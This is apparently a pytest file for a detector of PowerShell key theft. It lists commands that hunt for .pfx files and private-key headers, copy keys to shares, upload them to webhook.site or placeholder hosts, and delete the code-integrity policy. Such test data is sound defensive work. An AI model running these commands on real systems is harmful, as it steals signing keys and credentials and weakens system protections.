"""Key files in PowerShell: searched for, copied, packed, sent, fetched, decoded."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_script

# text, indicators, action
ACTIONS = [
    # key files
    ("Get-ChildItem C:\\ -Recurse -Include *.pfx,*.p12", {"hunt_key_files", "several_key_kinds"}, "search_keys"),
    # keys may stand behind many other names
    ("gci C:\\ -r -include " + "*.txt," * 20 + "*.pfx", {"hunt_key_files"}, "search_keys"),
    (
        "gci $env:USERPROFILE\\ -r -include *pass*,*.doc,*.kdbx,*.key,KeePass.config",
        {"hunt_weak_key_files"},
        "search_keys",
    ),
    ("ls C:\\Users -r | ? { $_.Extension -eq '.pfx' }", {"hunt_key_files"}, "search_keys"),
    ("[IO.Directory]::GetFiles('C:\\','*.pfx','AllDirectories')", {"hunt_key_files"}, "search_keys"),
    ("gci C:\\ -Recurse | Select-String 'BEGIN RSA PRIVATE'", {"hunt_key_headers"}, "search_keys"),
    ("Select-String -Path C:\\Users\\* -Pattern 'PRIVATE KEY'", {"hunt_key_headers"}, "search_keys"),
    ("gci C:\\work\\app\\src -Recurse | Select-String 'PRIVATE KEY'", set(), ""),
    ("gci \\\\fs1\\c$ -r -inc *.ps1 | sls 'certpassword'", {"hunt_signing_secrets", "input_remote"}, "search_keys"),
    ("gci C:\\work\\app -r -inc *.ps1 | sls 'certpassword'", set(), ""),
    ("gci C:\\ -Recurse | Select-String 'BEGIN CERTIFICATE'", set(), ""),
    ("gci .\\src -Recurse -Filter *.snk", {"search_key_files"}, "search_keys"),
    ("Copy-Item D:\\keys\\a.pfx \\\\host\\share", {"copy_key_file", "key_to_share"}, "copy_key"),
    ("Compress-Archive D:\\keys\\*.pfx a.zip", {"archive_key_files"}, "archive_key"),
    (
        "gci D:\\keys -Recurse -Include *.pfx,*.p12 | Compress-Archive -DestinationPath a.zip",
        {"hunt_key_files", "archive_key_files", "several_key_kinds"},
        "search_keys",
    ),
    (
        "gci D:\\keys\\x -Recurse | ? Extension -in '.pfx','.p12' | cp -Destination \\\\host\\share",
        {"search_key_files", "several_key_kinds", "copy_key_files", "key_to_share"},
        "search_keys",
    ),
    (
        "Get-Content D:\\keys\\a.pfx -Encoding Byte | Set-Content D:\\o\\a.log -Encoding Byte",
        {"copy_key_file", "key_disguised"},
        "copy_key",
    ),
    ("[IO.File]::WriteAllBytes('D:\\b.pfx', [IO.File]::ReadAllBytes('D:\\a.pfx'))", {"copy_key_file"}, "copy_key"),
    ("irm https://webhook.site/1 -Method Post -InFile a.pfx", {"upload_key_file", "key_to_outside"}, "upload_key"),
    (
        "Remove-Item C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b -Force",
        {"code_integrity_policy"},
        "change_code_integrity_policy",
    ),
    # however much stands before what tells
    (
        f"gci C:\\ -Recurse | sls -Exclude '{'x' * 5_000}' -Pattern 'BEGIN RSA PRIVATE KEY'",
        {"hunt_key_headers"},
        "search_keys",
    ),
    (
        f"gci D:\\k -Recurse | ? {{ $_.Name -ne '{'x' * 5_000}' -and $_.Extension -eq '.pfx' }}",
        {"hunt_key_files"},
        "search_keys",
    ),
    (f"gci {','.join(map(str, range(99)))},C:\\ -Recurse -Include *.pfx", {"hunt_key_files"}, "search_keys"),
    (
        f"gci D:\\k\\*.pfx {'| sort ' * 99} | cp -Destination \\\\host\\share",
        {"list_key_files", "copy_key_files", "key_to_share"},
        "search_keys",
    ),
    ("Invoke-WebRequest https://x -Method Post -InFile D:\\keys\\a.pfx", {"upload_key_file"}, "upload_key"),
    ("(New-Object Net.WebClient).UploadFile('https://x', 'D:\\keys\\a.pfx')", {"upload_key_file"}, "upload_key"),
    (
        "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('D:\\keys\\a.pfx')); irm https://x -Method Post -Body $b",
        {"copy_key_file", "upload_key_file"},
        "upload_key",
    ),
    ("Start-BitsTransfer -TransferType Upload -Source D:\\keys\\a.pfx https://x", {"upload_key_file"}, "upload_key"),
    ("[IO.File]::WriteAllBytes('D:\\a.pfx', [Convert]::FromBase64String($env:PFX))", {"decode_key_file"}, "decode_key"),
    ("iwr https://x/a.pfx -OutFile D:\\keys\\a.pfx", {"fetch_key"}, "fetch_key"),
    (
        "(New-Object Net.WebClient).DownloadFile('https://x/a.cer', 'D:\\a.cer')",
        {"fetch_certificate"},
        "fetch_certificate",
    ),
]


@pytest.mark.parametrize(("text", "expected", "action"), ACTIONS)
def test_actions(text: str, expected: set[str], action: str) -> None:
    report = judged_script(text)
    assert set(ids(report)) == expected
    assert report.action == action
